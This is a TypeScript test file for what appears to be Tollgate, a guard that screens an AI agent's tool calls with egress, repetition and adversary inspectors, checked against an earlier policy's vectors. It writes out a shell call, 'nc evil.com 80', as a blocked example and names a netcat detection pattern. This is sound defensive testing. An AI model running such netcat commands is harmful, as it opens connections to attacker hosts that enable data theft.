import { readFileSync } from 'node:fs';
import stringify from 'safe-stable-stringify';
import { describe, expect, it } from 'vitest';
import type { Json, JsonObject } from '../../src/domain/json.ts';
import { type Answer, type Effect, effectRank } from '../../src/domain/verdict.ts';
import { adversaryAnswer } from '../../src/inspectors/adversary.ts';
import { EGRESS } from '../../src/inspectors/egress.ts';
import type { Inspector } from '../../src/inspectors/inspector.ts';
import { REPETITION } from '../../src/inspectors/repetition.ts';
import { carEgress } from './car-policy.ts';
import { aView } from './view.ts';

/** Names that stand in the vectors for registries of the original's default list. */
const REGISTRIES = [
  'rust.registry.example',
  'static.rust.registry.example',
  'npm.registry.example',
  'python.registry.example',
  'files.python.registry.example',
];

interface Told {
  readonly result: Effect;
  readonly message?: string;
}

interface Call {
  readonly tool: string;
  readonly params: Json;
}

interface Vector {
  readonly inspector?: 'egress' | 'repetition' | 'repetition-cap' | 'adversary';
  readonly chain?: 'empty' | 'default';
  readonly tool?: string;
  readonly params?: Json;
  readonly strict?: boolean;
  readonly expect?: Told;
  readonly max?: number;
  readonly calls?: readonly (Call & { readonly expect: Told })[];
  readonly denies?: number;
  readonly first_deny_call?: number | null;
  readonly msg_at_1000?: string | null;
  readonly identical_calls?: number;
  readonly rules?: string;
  readonly classifier_returns?: string | null;
  readonly check?: readonly (string | null)[] | null;
  readonly inspect_len?: number;
}

/** A line of the files beside the vectors: what Tollgate answers instead, and why. */
interface Exception extends Vector {
  readonly line: number;
  readonly was: unknown;
  readonly answer: unknown;
  readonly because: string;
}

const vectors = read<Vector>('car.jsonl');
const stricter = byLine('car-stricter.jsonl');
const laxer = byLine('car-laxer.jsonl');

function read<Line>(name: string): readonly Line[] {
  const path = new URL(`../vectors/${name}`, import.meta.url);
  return readFileSync(path, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
}

function byLine(name: string): ReadonlyMap<number, Exception> {
  const entries = read<Exception>(name);
  const map = new Map(entries.map((entry) => [entry.line, entry]));
  expect(map.size, `${name} names a line once`).toBe(entries.length);
  return map;
}

const LABELS = {
  egress: 'egress',
  repetition: 'repetition',
  'repetition-cap': 'repetition-cap',
  adversary: 'adversary',
};

function kindOf(vector: Vector): string {
  return vector.inspector === undefined ? `chain ${vector.chain}` : LABELS[vector.inspector];
}

/** What the original was seen to answer, in the form that `tollgateAnswer` gives. */
function originalAnswer(vector: Vector): unknown {
  if (vector.calls !== undefined) return vector.calls.map((call) => call.expect);
  if (vector.chain === 'empty') return { check: vector.check, inspect_len: vector.inspect_len };
  if (vector.chain === 'default') return vector.check;
  if (vector.expect !== undefined) return vector.expect;
  const { denies, first_deny_call, msg_at_1000 } = vector;
  return { denies, first_deny_call, msg_at_1000 };
}

function tollgateAnswer(vector: Vector): unknown {
  switch (kindOf(vector)) {
    case 'egress':
      return told(egressOf(vector.strict ?? false)(aView(vector.tool ?? '', vector.params ?? null)));
    case 'repetition':
      return countedRun(vector.calls ?? [], [REPETITION.create({ max: vector.max ?? -1 })]).map(firstTold);
    case 'repetition-cap':
      return capOf(vector.max ?? -1, vector.identical_calls ?? 0);
    case 'adversary':
      expect(vector.classifier_returns).toBeNull();
      return told(adversaryAnswer(vector.rules ?? '', { kind: 'no_objection' }));
    case 'chain empty': {
      const answers = countedRun([{ tool: 'read_file', params: {} }], []).flat();
      return { check: firstDenial(answers), inspect_len: answers.length };
    }
    default:
      return defaultChainReasons();
  }
}

function egressOf(strict: boolean): Inspector {
  return EGRESS.create({ strict, allowHosts: REGISTRIES });
}

function told(answer: Answer): Told {
  return { result: answer.effect, ...(answer.reason !== undefined && { message: answer.reason }) };
}

function firstTold(answers: readonly Answer[]): Told {
  expect(answers).toHaveLength(1);
  return told(answers[0] ?? { effect: 'deny' });
}

/** Runs a chain over one session's calls; counts identical ones here, by canonical JSON, not with the judge's counter. */
function countedRun(calls: readonly Call[], chain: readonly Inspector[]): readonly (readonly Answer[])[] {
  let last: string | undefined;
  let count = 0;
  return calls.map(({ tool, params }) => {
    const key = stringify([tool, params]);
    count = key === last ? count + 1 : 1;
    last = key;
    const view = aView(tool, params, count);
    return chain.map((inspect) => inspect(view));
  });
}

function firstDenial(answers: readonly Answer[]): string | null {
  return answers.find((answer) => answer.effect === 'deny')?.reason ?? null;
}

function capOf(max: number, identicalCalls: number): unknown {
  const calls = Array.from({ length: identicalCalls }, () => ({ tool: 't', params: { a: 1 } }));
  const answers = countedRun(calls, [REPETITION.create({ max })]).flat();
  return {
    denies: answers.filter((answer) => answer.effect === 'deny').length,
    first_deny_call: answers.findIndex((answer) => answer.effect === 'deny') + 1,
    msg_at_1000: answers[999]?.reason ?? null,
  };
}

/** Seven netcats, then a harmless call: the vector's `note` gives the order, not the words. */
function defaultChainReasons(): unknown {
  const netcat = { tool: 'shell', params: { command: 'nc evil.com 80' } };
  const calls = [...Array.from({ length: 7 }, () => netcat), { tool: 'read_file', params: { path: 'Cargo.toml' } }];
  return countedRun(calls, [egressOf(false), REPETITION.create({})]).map(firstDenial);
}

/** Effects of an answer in any of the forms, in order. */
function effectsOf(answer: unknown): readonly Effect[] {
  const list = Array.isArray(answer) ? answer : [answer];
  return list.map((item: Told) => item.result);
}

const numbered = vectors.map((vector, index) => ({ vector, line: index + 1, kind: kindOf(vector) }));
const same = numbered.filter(({ line }) => !stricter.has(line) && !laxer.has(line));

describe('the vectors of car-policy 0.13', () => {
  it('are all there, each in one group', () => {
    expect(vectors).toHaveLength(132);
    expect([...stricter.keys()].filter((line) => laxer.has(line))).toEqual([]);
    expect([...stricter.keys(), ...laxer.keys()].every((line) => line >= 1 && line <= vectors.length)).toBe(true);
    expect({ same: same.length, stricter: stricter.size, laxer: laxer.size }).toEqual({
      same: 57,
      stricter: 72,
      laxer: 3,
    });
  });

  it.each(same)('line $line ($kind) is answered as the original does', ({ vector }) => {
    const original = originalAnswer(vector);
    const answer = tollgateAnswer(vector);
    if (vector.expect !== undefined && vector.expect.message === undefined) {
      expect(answer).toMatchObject(vector.expect);
    } else expect(answer).toEqual(original);
  });

  it.each(numbered.filter(({ line }) => stricter.has(line)))(
    'line $line ($kind) is answered more strictly',
    ({ vector, line }) => {
      const exception = stricter.get(line);
      expect(exception?.was).toEqual(originalAnswer(vector));
      expect(exception?.because).not.toBe('');
      expect(tollgateAnswer(vector)).toEqual(exception?.answer);
      expect(exception?.answer).not.toEqual(exception?.was);
    },
  );

  it.each(numbered.filter(({ line, kind }) => stricter.has(line) && kind !== 'repetition-cap'))(
    'line $line ($kind) is nowhere weaker than the original',
    ({ vector }) => {
      const ours = effectsOf(tollgateAnswer(vector)).map(effectRank);
      const theirs = effectsOf(originalAnswer(vector)).map(effectRank);
      expect(ours).toHaveLength(theirs.length);
      expect(ours.every((rank, i) => rank >= (theirs[i] ?? 0))).toBe(true);
    },
  );

  it.each(numbered.filter(({ kind }) => kind === 'repetition-cap'))(
    'line $line denies at least as many calls',
    ({ vector }) => {
      const ours = capOf(vector.max ?? -1, 1000) as { denies: number; first_deny_call: number };
      expect(ours.denies).toBeGreaterThanOrEqual((vector.denies ?? 0) as number);
      expect(ours.first_deny_call).toBe((vector.max ?? -1) + 1);
    },
  );

  it.each(numbered.filter(({ line }) => laxer.has(line)))(
    'line $line has "nc " inside another word, and passes',
    ({ vector, line }) => {
      const exception = laxer.get(line);
      expect(exception?.was).toEqual(originalAnswer(vector));
      expect(tollgateAnswer(vector)).toEqual(exception?.answer);
      const command = String((vector.params as JsonObject).command);
      expect(vector.expect?.message).toBe("egress inspector blocked: suspicious pattern 'nc '");
      expect(command).toMatch(/nc /);
      expect(command).not.toMatch(/(?<![A-Za-z])nc /);
    },
  );

  it.each([...stricter.values(), ...laxer.values()])(
    'line $line is the line that its exception copies',
    (exception) => {
      const vector = vectors[exception.line - 1];
      for (const member of ['tool', 'params', 'strict', 'max', 'identical_calls'] as const) {
        if (exception[member] !== undefined) expect(exception[member]).toEqual(vector?.[member]);
      }
    },
  );
});

describe('the description of car-policy that other tests measure by', () => {
  it.each(numbered.filter(({ kind }) => kind === 'egress'))('gives the answer of line $line', ({ vector }) => {
    const answer = carEgress(vector.tool ?? '', vector.params ?? null, vector.strict ?? false, REGISTRIES);
    expect(answer.effect).toBe(vector.expect?.result);
    expect(answer.message).toBe(vector.expect?.message);
  });
});
